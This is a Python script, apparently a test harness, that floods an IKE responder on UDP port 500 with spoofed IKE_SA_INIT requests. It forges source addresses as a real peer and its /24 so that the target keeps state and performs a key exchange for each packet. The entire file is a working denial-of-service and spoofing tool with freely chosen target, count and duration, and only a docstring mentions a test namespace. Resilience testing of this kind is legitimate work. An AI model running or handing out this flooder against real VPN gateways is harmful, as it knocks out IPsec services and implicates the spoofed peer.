#!/usr/bin/env python3
"""ike-flood.py - a bounded flood of spoofed IKE_SA_INIT requests (raw IPv4/UDP).

usage: ike-flood.py DST CLAIMED COUNT SECONDS
  Sends at most COUNT requests to DST:500 within SECONDS: every other one claims
  to come from CLAIMED (a real peer's address, so a responder that trusts the
  address keeps state and does a key exchange for each), the rest from random
  addresses in CLAIMED's /24. Each is a complete IKE_SA_INIT with a random SPI,
  KE value and nonce.
Needs CAP_NET_RAW; run inside the test's namespace.
"""
import os
import random
import socket
import struct
import sys
import time


def transform(last, ttype, tid, key_bits=None):
    attr = struct.pack("!HH", 0x800E, key_bits) if key_bits else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attr), ttype, 0, tid) + attr


def ike_sa_init(spi):
    """A complete request a responder must do a key exchange for: SA
    (AES-CBC-128, HMAC-SHA2-256, PRF-SHA2-256, Curve25519), KE, Ni."""
    ts = (transform(False, 1, 12, 128) + transform(False, 2, 5) + transform(False, 3, 12)
          + transform(True, 4, 31))
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(ts), 1, 1, 0, 4) + ts
    sa = struct.pack("!BBH", 34, 0, 4 + len(prop)) + prop
    ke_data = os.urandom(32)
    ke = struct.pack("!BBHHH", 40, 0, 8 + len(ke_data), 31, 0) + ke_data
    nonce = os.urandom(32)
    ni = struct.pack("!BBH", 0, 0, 4 + len(nonce)) + nonce
    body = sa + ke + ni
    hdr = struct.pack("!QQBBBBII", spi, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return hdr + body


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def main():
    dst_s, claimed, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    net = claimed.rsplit(".", 1)[0]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(dst_s)
    deadline = time.time() + seconds
    sent = 0
    for i in range(count):
        if time.time() > deadline:
            break
        src = claimed if i % 2 else "%s.%d" % (net, random.randint(10, 250))
        payload = ike_sa_init(random.getrandbits(64) | 1)
        udp = struct.pack("!HHHH", random.randint(1024, 65535), 500, 8 + len(payload), 0) + payload
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0,
                         socket.inet_aton(src), dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        raw.sendto(ip + udp, (dst_s, 0))
        sent += 1
    print("ike-flood: sent %d IKE_SA_INITs to %s" % (sent, dst_s))


if __name__ == "__main__":
    main()
